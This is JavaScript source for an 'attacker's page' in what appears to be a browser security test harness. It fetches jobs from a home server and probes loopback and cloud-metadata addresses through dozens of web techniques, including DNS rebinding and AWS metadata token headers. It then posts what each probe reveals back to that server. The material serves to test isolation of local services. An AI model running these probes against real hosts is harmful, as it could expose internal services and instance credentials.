// The attacker's page. It takes one job after another from its home, the
// attacker's server, runs it, and posts what it saw there. A job is an attack
// and its probes: addresses, each with the token to show, if any, and in which header. Whatever a
// page can observe of a probe must be in what the attack returns, and nothing
// that differs by nature (times, the address itself) may be.
"use strict";

const home = new URLSearchParams(location.search).get("home");
performance.setResourceTimingBufferSize(100000);

const pause = (ms) => new Promise((done) => setTimeout(done, ms));
const first = (target, ...names) =>
	new Promise((done) => names.forEach((name) => target.addEventListener(name, (e) => done(e), { once: true })));
const element = (tag, attributes) => Object.assign(document.createElement(tag), attributes);
const silence = 600; // ms, after which nothing is said any more
const failure = (e) => ({ error: `${e.name}: ${e.message}` });

// What frames and windows say with postMessage. Only an answer that runs as a
// document can say anything. listen waits that long for somebody's first word.
const heard = new Map();
addEventListener("message", (e) => heard.set(e.source, String(e.data)));
async function listen(source, ms) {
	for (const end = performance.now() + ms; !heard.has(source) && performance.now() < end; ) await pause(5);
	return heard.get(source);
}

async function ask(url, options) {
	try {
		const r = await fetch(url, options);
		const headers = [...r.headers].filter(([name]) => name !== "date"); // the clock's
		return { type: r.type, status: r.status, redirected: r.redirected, headers, read: await r.text() };
	} catch (e) {
		return failure(e);
	}
}

function xhr(p, withCredentials, method = "GET") {
	const x = new XMLHttpRequest();
	const seen = [];
	return new Promise((done) => {
		for (const name of ["load", "error", "abort", "timeout", "progress"]) x.addEventListener(name, () => seen.push(name));
		x.addEventListener("loadend", () => done({ seen, status: x.status, type: x.getResponseHeader("Content-Type"), read: x.responseText }));
		x.open(method, p.url);
		x.withCredentials = withCredentials;
		if (p.token) x.setRequestHeader(p.header, p.token);
		if (method === "PUT") x.setRequestHeader("X-aws-ec2-metadata-token-ttl-seconds", "21600");
		x.send();
	});
}

// load puts an element into the page and tells which event it got.
async function load(tag, attributes, { remove = true, events = ["load", "error", "loadedmetadata"] } = {}) {
	delete self.canary;
	const e = element(tag, attributes);
	const event = first(e, ...events);
	document.body.append(e);
	const saw = { event: (await event).type, script: self.canary, width: e.naturalWidth, media: e.duration && String(e.duration) };
	if (remove) e.remove();
	return saw;
}

// frame describes what a page may know of a frame or window of another origin.
async function frame(f) {
	const said = await listen(f.contentWindow, silence);
	const saw = { said, frames: f.contentWindow?.length, width: f.offsetWidth };
	try {
		saw.read = f.contentDocument?.documentElement.outerHTML;
	} catch (e) {
		saw.document = e.name;
	}
	f.remove();
	return saw;
}

async function framed(tag, attributes) {
	const f = element(tag, attributes);
	const event = first(f, "load", "error");
	document.body.append(f);
	return { event: (await event).type, ...(await frame(f)) };
}

async function submitted(p, attributes) {
	const f = element("iframe", { name: "answer to " + p.url });
	document.body.append(f); // and with it, the load of about:blank
	const form = element("form", { action: p.url, target: f.name, ...attributes });
	document.body.append(form);
	const event = first(f, "load", "error");
	form.submit();
	form.remove();
	return { event: (await event).type, ...(await frame(f)) };
}

async function opened(url) {
	const w = open(url, "_blank", "width=300,height=300");
	if (!w) throw new Error("no window: the browser blocked it");
	let saw = {};
	while (!saw.loaded) {
		await pause(10);
		try { // about:blank until it has arrived, or the blob that leads away
			if (!/^(about|blob):/.test(w.location.href) && w.document.readyState === "complete") {
				saw = { loaded: "same origin", read: w.document.documentElement.outerHTML };
			}
		} catch (e) {
			saw = { loaded: e.name };
		}
	}
	saw = { ...saw, said: await listen(w, silence), frames: w.length, closed: w.closed };
	w.close();
	return saw;
}

// away leads to url from a document of its own.
const away = (url) =>
	URL.createObjectURL(new Blob([`<meta name=referrer content=no-referrer><script>location.replace(${JSON.stringify(url)})<\/script>`], { type: "text/html" }));

async function socket(p) {
	const s = new WebSocket(p.url.replace("http:", "ws:"));
	const seen = [];
	s.addEventListener("open", () => seen.push("open"));
	s.addEventListener("error", () => seen.push("error"));
	s.addEventListener("message", (e) => { seen.push(e.data); s.close(); });
	const end = await first(s, "close");
	return { seen, code: end.code, clean: end.wasClean, reason: end.reason, protocol: s.protocol };
}

async function eventSource(p, options) {
	const s = new EventSource(p.url, options);
	const e = await first(s, "error", "message");
	s.close();
	return { event: e.type, data: e.data, state: s.readyState };
}

async function worker(p) {
	const code = `try { importScripts(${JSON.stringify(p.url)}); postMessage("ran " + self.canary) } catch (e) { postMessage(e.name) }`;
	const w = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
	const said = (await first(w, "message")).data;
	w.terminate();
	return { said };
}

// sandboxed asks from a frame whose origin is "null".
async function sandboxed(p) {
	const code = `(async () => {
		const saw = {};
		for (const mode of ["cors", "no-cors"])
			saw[mode] = await fetch(${JSON.stringify(p.url)}, { mode }).then((r) => r.text(), (e) => e.name);
		parent.postMessage(JSON.stringify(saw), "*");
	})()`;
	const f = element("iframe", { srcdoc: `<meta name=referrer content=no-referrer><script>${code}<\/script>` });
	f.setAttribute("sandbox", "allow-scripts");
	document.body.append(f);
	const said = await listen(f.contentWindow, 5000);
	f.remove();
	return { said };
}

// byWorker lets a service worker ask, if the page's origin may have one.
async function byWorker(p) {
	if (!registration) return { error: "no service worker here" };
	const channel = new MessageChannel();
	const answer = first(channel.port1, "message");
	channel.port1.start();
	registration.active.postMessage(p, [channel.port2]);
	return (await answer).data;
}

async function registered(p) {
	if (!navigator.serviceWorker) return { error: "no service worker here" };
	try {
		const scope = "/scope" + new URL(p.url).pathname; // its own, not that of the worker that byWorker uses
		const r = await navigator.serviceWorker.register(p.url, { scope });
		await r.unregister();
		return { registered: true };
	} catch (e) {
		return { error: e.name }; // the message repeats the address
	}
}

async function styled(p) {
	const saw = await load("link", { rel: "stylesheet", href: p.url }, { remove: false });
	saw.style = getComputedStyle(document.documentElement).getPropertyValue("--canary");
	document.querySelectorAll("link").forEach((l) => l.remove());
	return saw;
}

function background(p) {
	const e = element("div", { style: `width: 9px; height: 9px; background-image: url(${p.url})` });
	document.body.append(e);
	return {}; // what shows is in the resource timing
}

async function ping(p) {
	const a = element("a", { href: "#", ping: p.url });
	document.body.append(a);
	a.click();
	a.remove();
	await pause(500);
	return {};
}

async function speculation(p) {
	const rules = { prefetch: [{ source: "list", urls: [p.url], eagerness: "immediate", referrer_policy: "no-referrer" }] };
	const e = element("script", { type: "speculationrules", textContent: JSON.stringify(rules) });
	document.body.append(e);
	await pause(1500); // it does it when it has nothing else to do
	e.remove(); // and what it fetched is not for the next attack
	return {};
}

const withToken = (p) => (p.token ? { [p.header]: p.token } : {});
const through = (p) => `${home}/redirect?to=${encodeURIComponent(p.url)}`;

// The attacks. Those in untimed leave no entry in the resource timing.
const attacks = {
	"fetch cors": (p) => ask(p.url),
	"fetch no-cors": (p) => ask(p.url, { mode: "no-cors" }),
	"fetch credentials": (p) => ask(p.url, { credentials: "include" }),
	"fetch no-cors credentials": (p) => ask(p.url, { mode: "no-cors", credentials: "include" }),
	"fetch keepalive": (p) => ask(p.url, { keepalive: true }),
	"fetch redirect error": (p) => ask(p.url, { redirect: "error" }),
	"fetch redirect manual": (p) => ask(p.url, { redirect: "manual" }),
	"fetch HEAD": (p) => ask(p.url, { method: "HEAD" }),
	"fetch PUT": (p) => ask(p.url, { method: "PUT" }),
	"fetch PUT session": (p) => ask(p.url, { method: "PUT", headers: { "X-aws-ec2-metadata-token-ttl-seconds": "21600" } }),
	"fetch PUT session no-cors": (p) => ask(p.url, { method: "PUT", mode: "no-cors", headers: { "X-aws-ec2-metadata-token-ttl-seconds": "21600" } }),
	"fetch POST": (p) => ask(p.url, { method: "POST", mode: "no-cors", body: "x" }),
	"fetch no-cors language": (p) => ask(p.url, { mode: "no-cors", headers: { "Accept-Language": "", "Accept": "*/*", "Content-Language": "" } }),
	"fetch address space": (p) => ask(p.url, { targetAddressSpace: /\/169\.254\./.test(p.url) ? "local" : "loopback" }),
	"fetch custom header": (p) => ask(p.url, { headers: { "X-Aws-Ec2-Metadata-Token": "x" } }),
	"fetch token": (p) => ask(p.url, { headers: withToken(p) }),
	"fetch token credentials": (p) => ask(p.url, { headers: withToken(p), credentials: "include" }),
	"fetch token no-cors": (p) => ask(p.url, { headers: withToken(p), mode: "no-cors" }),
	"fetch after redirect": (p) => ask(through(p)),
	"fetch no-cors after redirect": (p) => ask(through(p), { mode: "no-cors" }),
	"XMLHttpRequest": (p) => xhr(p, false),
	"XMLHttpRequest credentials": (p) => xhr(p, true),
	"XMLHttpRequest PUT session": (p) => xhr(p, false, "PUT"),
	"XMLHttpRequest token": (p) => xhr(p, false),
	"EventSource": (p) => eventSource(p),
	"EventSource credentials": (p) => eventSource(p, { withCredentials: true }),
	"WebSocket": socket,
	"sendBeacon": (p) => ({ queued: navigator.sendBeacon(p.url, "x") }),
	"image": (p) => load("img", { src: p.url }),
	"image crossorigin": (p) => load("img", { crossOrigin: "anonymous", src: p.url }),
	"image after redirect": (p) => load("img", { src: through(p) }),
	"script": (p) => load("script", { src: p.url }),
	"script module": (p) => load("script", { type: "module", src: p.url }),
	"import": (p) => import(p.url).then(() => ({ ran: self.canary }), (e) => ({ error: e.name })),
	"stylesheet": styled,
	"css url": background,
	"video": (p) => load("video", { src: p.url }),
	"object": (p) => framed("object", { data: p.url }),
	"embed": (p) => framed("embed", { src: p.url }),
	"iframe": (p) => framed("iframe", { src: p.url }),
	"sandboxed iframe": sandboxed,
	"form GET": (p) => submitted(p, { method: "get" }),
	"form POST text/plain": (p) => submitted(p, { method: "post", enctype: "text/plain" }),
	"prefetch": (p) => load("link", { rel: "prefetch", href: p.url }),
	"preload fetch": (p) => load("link", { rel: "preload", as: "fetch", crossOrigin: "anonymous", href: p.url }),
	"preload image": (p) => load("link", { rel: "preload", as: "image", href: p.url }),
	"speculation rules": speculation,
	"worker importScripts": worker,
	"service worker script": registered,
	"service worker fetch": byWorker,
	"window.open": (p) => opened(p.url),
	"window.open password": (p) => opened(p.url.replace("//", `//vendord:${p.token}@`)),
	"navigation": (p) => opened(away(p.url)),
	"ping": ping,
	"arrive": arrive,
	"timing": () => ({}), // compared as a whole, below
};
const untimed = new Set(["WebSocket", "EventSource", "EventSource credentials", "sandboxed iframe", "service worker script",
	"service worker fetch", "worker importScripts", "window.open", "window.open password", "navigation",
	"speculation rules", "form GET", "form POST text/plain", "arrive", "timing"]);
// Those in alone take one probe after another: what they leave in the page is
// not to be told from what another probe leaves.
const alone = new Set(["script", "script module", "import", "stylesheet", "embed"]);

// arrive waits until the page's own name leads somewhere else than to the
// attacker.
async function arrive() {
	for (const end = performance.now() + 11000; performance.now() < end; await pause(50)) {
		const r = await fetch("/arrived", { cache: "no-store" }).then((r) => r.headers.get("X-Attacker") ?? "not the attacker", (e) => e.name);
		if (r === "not the attacker") return { arrived: true };
	}
	throw new Error("the name still leads to the attacker");
}

// sizes are how much came. A media element hangs up as soon as it has read the
// header of a refusal (Chromium 156), so that how much of its body came first is
// chance.
function sizes(e) {
	if (e.initiatorType === "video" && e.responseStatus === 0) return [];
	return [e.transferSize, e.encodedBodySize, e.decodedBodySize];
}

// resource is what the resource timing says of a probe, without the times.
async function resource(name, since) {
	const mine = () => performance.getEntriesByType("resource").filter((e) => e.name === name && e.startTime >= since);
	for (const end = performance.now() + 400; mine().length === 0 && performance.now() < end; ) await pause(5);
	return mine().map((e) => ({
		initiator: e.initiatorType, status: e.responseStatus, protocol: e.nextHopProtocol, type: e.contentType, delivery: e.deliveryType,
		sizes: sizes(e), redirect: [e.redirectStart > 0, e.redirectEnd > 0],
		connect: e.connectStart > 0, request: e.requestStart > 0, response: e.responseStart > 0,
	}));
}

async function probe(attack, p) {
	const since = performance.now();
	const saw = await Promise.race([attacks[attack](p), pause(12000).then(() => { throw new Error("no event in 12 s"); })]);
	if (attack.endsWith("after redirect")) return { ...saw, timing: await resource(through(p), since) };
	return untimed.has(attack) ? saw : { ...saw, timing: await resource(p.url, since) };
}

// timing tells how long each probe takes: the lower quartile of many rounds, in
// each of which every probe is asked once. What the machine does besides can
// only make a request slower.
async function timing(probes) {
	const took = probes.map(() => []);
	for (let round = 0; round < 9; round++) {
		for (const [i, p] of probes.entries()) {
			const start = performance.now();
			await fetch(p.url, { mode: "no-cors" }).catch(() => 0);
			took[i].push(performance.now() - start);
		}
	}
	return took.map((t) => t.sort((a, b) => a - b)[t.length >> 2]);
}

let registration;
async function serviceWorker() {
	if (!navigator.serviceWorker) return; // not a secure context
	await navigator.serviceWorker.register("/worker.js");
	registration = await navigator.serviceWorker.ready;
}

async function main() {
	await serviceWorker();
	for (;;) {
		const job = await (await fetch(home + "/next")).json();
		const report = { attack: job.attack, saw: [] };
		try {
			const many = new Set(job.probes.map((p) => p.url)).size === job.probes.length && !alone.has(job.attack);
			if (many) report.saw = await Promise.all(job.probes.map((p) => probe(job.attack, p)));
			else for (const p of job.probes) report.saw.push(await probe(job.attack, p));
			report.saw = report.saw.map((saw) => JSON.stringify(saw));
			if (job.attack === "timing") report.quartiles = await timing(job.probes);
		} catch (e) {
			report.fault = `${e.name}: ${e.message}`;
		}
		await fetch(home + "/report", { method: "POST", body: JSON.stringify(report) });
	}
}

main().catch((e) => fetch(home + "/report", { method: "POST", body: JSON.stringify({ fault: `page: ${e.name}: ${e.message}` }) }));
